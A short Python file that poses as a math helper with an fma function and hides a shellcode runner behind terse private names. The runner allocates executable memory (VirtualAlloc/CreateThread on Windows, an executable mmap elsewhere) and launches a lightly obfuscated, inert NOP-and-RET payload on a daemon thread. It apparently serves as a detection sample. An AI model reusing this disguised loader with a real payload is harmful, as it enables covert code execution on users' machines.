import ctypes
import mmap
import os
import threading


def fma(a, b, c):
    return a * b + c


# inert: NOP sled and RET
_K = bytes.fromhex("90" * 64 + "c3")
_k = bytes(b ^ 0x5A for b in bytes(x ^ 0x5A for x in _K))


def _w(code):
    k32 = ctypes.windll.kernel32
    k32.VirtualAlloc.restype = ctypes.c_void_p
    p = k32.VirtualAlloc(None, len(code), 0x3000, 0x40)
    k32.RtlMoveMemory(ctypes.c_void_p(p), code, len(code))
    h = k32.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)
    k32.WaitForSingleObject(h, 0xFFFFFFFF)


def _l(code):
    m = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    ctypes.CFUNCTYPE(None)(addr)()


def _warm():
    threading.Thread(target=_w if os.name == "nt" else _l, args=(_k,), daemon=True).start()
